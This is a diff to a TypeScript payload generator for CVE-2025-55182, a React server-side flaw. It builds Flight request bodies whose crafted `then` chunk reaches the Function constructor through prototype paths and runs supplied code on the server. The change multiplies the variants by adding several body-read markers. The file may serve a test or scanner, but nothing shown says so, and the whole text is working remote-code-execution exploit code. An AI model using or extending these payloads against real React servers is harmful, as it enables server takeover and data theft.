@@ -7,7 +7,10 @@ const many = (text: string, times: number) => Array.from({ length: times }, () =
  * Of CVE-2025-55182 (React2Shell): a made-up chunk whose `then` React calls, and through it the constructor of functions.
  * @param code what would run on the server
  */
-function gadget(code: string, to: { readonly then: string; readonly get: string }): Record<string, string> {
+function gadget(
+  code: string,
+  to: { readonly then: string; readonly get: string; readonly read: string },
+): Record<string, string> {
   const response = { _prefix: `${code}//`, _chunks: '$Q2', _formData: { get: to.get } };
   return {
     0: JSON.stringify({
@@ -15,7 +18,7 @@ function gadget(code: string, to: { readonly then: string; readonly get: string 
       then: to.then,
       status: 'resolved_model',
       reason: -1,
-      value: '{"then":"$B1337"}',
+      value: `{"then":"${to.read}1337"}`,
       _response: response,
     }),
     1: '"$@0"',
@@ -32,8 +35,17 @@ function gadgets(code: string): FlightPayload[] {
     '$1:__proto__:constructor:constructor',
     '$1:toString:constructor',
   ];
+  // What React takes out of the parts of the body by `get`: a file, and numbers of three kinds.
+  const reads = ['$B', '$A', '$o', '$V'];
   return thens.flatMap((then) =>
-    gets.map((get): FlightPayload => [`code through ${then} and ${get}`, gadget(code, { then, get })]),
+    gets.flatMap((get) =>
+      reads.map(
+        (read): FlightPayload => [
+          `code through ${then}, ${get} and ${read}`,
+          gadget(code, { then, get, read }),
+        ],
+      ),
+    ),
   );
 }
 
